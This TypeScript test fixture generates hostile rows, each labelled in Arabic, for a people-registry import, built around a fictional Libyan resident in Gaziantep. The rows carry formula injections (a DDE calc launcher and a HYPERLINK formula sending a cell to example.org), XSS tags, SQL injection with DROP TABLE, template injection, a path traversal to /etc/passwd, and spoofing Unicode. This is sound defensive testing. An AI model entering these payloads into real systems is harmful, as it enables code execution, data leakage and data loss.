import { type Row, columns } from "./writing.ts";

const ordinary: Row = {
  household: "",
  name: "سالم علي المثالي",
  latin: "Salem Ali Example",
  sex: "ذكر",
  birth: "1987-03-25",
  nationality: "ليبية",
  passport: "",
  phone: "+218970000500",
  email: "salem@example.org",
  country: "تركيا",
  city: "غازي عنتاب",
  latitude: "37.0660",
  longitude: "37.3830",
  stay: "مقيم",
  from: "2020-01-01",
  to: "",
  needs: "",
  notes: "",
};

/** What is in each row, in the column of notes, and the cells that differ from an ordinary row. */
const differences: [what: string, cells: Partial<Row>][] = [
  ["صف سليم", {}],
  ["صيغة جدول", { name: "=1+1" }],
  ["صيغة جدول تشغّل برنامجًا", { name: "=cmd|' /C calc'!A0" }],
  ["صيغة تبدأ بعلامة الجمع", { latin: "+1+1" }],
  ["صيغة تبدأ بعلامة الطرح", { city: "-2+3" }],
  ["صيغة تبدأ بعلامة @", { latin: "@SUM(A1:A9)" }],
  ["صيغة فيها رابط", { email: '=HYPERLINK("http://example.org/?x="&A1,"اضغط")' }],
  ["صيغة بعد علامة جدولة", { name: "\t=1+1" }],
  ["وسم HTML", { name: "<script>alert(1)</script>" }],
  ["وسم HTML في المدينة", { city: '<img src=x onerror="alert(1)">' }],
  ["عنوان javascript في البريد", { email: "javascript:alert(1)" }],
  ["SQL في الاسم", { name: "سالم'; DROP TABLE people.person; --" }],
  ["SQL في رقم الجواز", { passport: "EX1' OR '1'='1" }],
  ["قالب", { latin: "${7*7} {{7*7}} <%= 7*7 %>" }],
  ["مسار", { name: "../../../../etc/passwd" }],
  ["اسم أطول من اللازم", { name: "محمد ".repeat(400).trim() }],
  ["اسم من كلمة واحدة طويلة", { latin: "A".repeat(3_000) }],
  ["علامات اتجاه تقلب الاسم", { latin: "Salem \u202egnorW\u202c Ali" }],
  ["علامات اتجاه معزولة", { name: "\u2067سالم\u2069 \u2066Ali\u2069" }],
  ["محارف بلا عرض", { name: "سا\u200bلم\u2060 علي\ufeff" }],
  ["تطويل وتشكيل", { name: "سَـــالِمٌ عَلِيٌّ المِثَالِيّ" }],
  ["تكديس علامات", { latin: `Sa${"\u0301".repeat(60)}lem` }],
  ["محرف تحكم", { name: "سالم\u0007علي" }],
  ["سطران في خلية", { name: "سالم\nعلي" }],
  ["رموز تعبيرية", { name: "سالم 🕊️ علي" }],
  ["يوم غير موجود", { birth: "2023-02-30" }],
  ["تاريخ ميلاد في المستقبل", { birth: "01/01/2090" }],
  ["شهر بالاسم", { birth: "25 مارس 1987" }],
  ["إحداثيات خارج الأرض", { latitude: "1e309", longitude: "-999" }],
  ["إحداثيات نصية", { latitude: "NaN", longitude: "Infinity" }],
  ["إقامة تنتهي قبل أن تبدأ", { from: "2023-01-01", to: "2020-01-01" }],
  ["هاتف طويل", { phone: "9".repeat(200) }],
  ["نوع إقامة غير معروف", { stay: "سائح فضاء" }],
  ["صف بلا بيانات سوى الملاحظة", Object.fromEntries(Object.keys(columns).map((column) => [column, ""]))],
];

/** Rows that are meant to do harm or to break something; each says in Arabic, among its notes, what it holds. */
export function hostileRows(): Row[] {
  return differences.map(([what, cells], at) => ({ ...ordinary, passport: `EX9${String(at).padStart(5, "0")}`, ...cells, notes: what }));
}
